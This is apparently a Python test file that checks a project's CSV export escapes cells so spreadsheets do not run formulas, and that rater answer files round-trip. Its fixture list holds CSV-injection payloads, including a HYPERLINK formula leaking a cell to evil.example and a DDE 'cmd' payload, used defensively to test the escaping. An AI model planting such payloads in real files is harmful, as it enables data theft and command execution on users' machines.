"""Every CSV the project hands to people opens in a spreadsheet as text: no cell starts a formula (OWASP's
CSV-injection rule), and a raters' file that comes back reads the original text."""

from __future__ import annotations

import csv

import pandas as pd

from taosr1.corpora.annotate import EXPORT_COLUMNS, write_export
from taosr1.corpora.answers import read_answers
from taosr1.io.csv_safe import FORMULA_START, escape_cell, unescape_cell, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "=cmd|' /C calc'!A0 drill", "@SUM(A1:A9)", "+1+1",
           "-2+3", "\tx", "\rx", "'=already quoted", "plain drill"]


def _cells(path) -> list[str]:
    with open(path, newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def test_escape_round_trips_and_leaves_numbers_alone():
    for v in HOSTILE + ["", "'", "a=b"]:
        assert unescape_cell(escape_cell(v)) == v
        assert not escape_cell(v).startswith(FORMULA_START)
    assert escape_cell(-3.5) == -3.5 and escape_cell(None) is None
    text = write_csv(pd.DataFrame({"system": ["=evil()", "lexical"], "macro_f1": [-0.1, 0.3]}))
    assert text.splitlines()[1:] == ['"\'=evil()",-0.1', '"lexical",0.3']


def test_raters_export_has_no_formula_cells_and_answers_read_the_original_ids(tmp_path):
    n = len(HOSTILE)
    df = pd.DataFrame({c: [f"{c}-{i}" for i in range(n)] for c in EXPORT_COLUMNS})
    df["query"], df["title"], df["product_id"], df["brand"] = HOSTILE, HOSTILE[::-1], HOSTILE, ["@evil"] * n
    df["price"] = [-1.0] * n
    df["attributes"] = [{"k": "=1+1"}] * n
    path, jsonl, _ = write_export(df, tmp_path, "round-x")
    text_cells = [c for c in _cells(path) if c != "-1.0"]
    assert not [c for c in text_cells if c.startswith(FORMULA_START)]
    assert sum(c.startswith("'") for c in text_cells) >= 3 * n  # query, title, product_id, brand
    # a rater fills in the two answer columns in a spreadsheet and saves the file back
    back = pd.read_csv(path, dtype=str, keep_default_na=False).assign(rater_id="r1", label="3")
    back.to_csv(tmp_path / "answers.csv", index=False, quoting=csv.QUOTE_ALL)
    answers = read_answers(str(tmp_path / "answers.csv"))
    ok = answers["reason"].isna()
    assert list(answers.loc[ok, "product_id"]) == [v for v in HOSTILE if v[0] not in "\t\r"]
    assert set(answers.loc[~ok, "reason"]) == {"invalid_field:product_id"}  # a tab or CR is no part of an id


def test_an_answers_file_that_is_not_utf8_is_one_line(tmp_path):
    import pytest

    from taosr1.errors import InputError

    path = tmp_path / "answers.csv"
    path.write_bytes(b"query_id,product_id,rater_id,label\nq1,P\xff1,r1,3\n")
    with pytest.raises(InputError, match=r"not UTF-8 \(byte 0xff at offset"):
        read_answers(str(path))


def test_a_rater_id_is_an_id(tmp_path):
    path = tmp_path / "answers.jsonl"
    path.write_text('{"query_id": "q1", "product_id": "P1", "rater_id": "r\\u00001", "label": "3"}\n'
                    '{"query_id": "q1", "product_id": "P1", "rater_id": "r2", "label": "3"}\n')
    got = read_answers(str(path))
    assert list(got["reason"]) == ["invalid_field:rater_id", None]
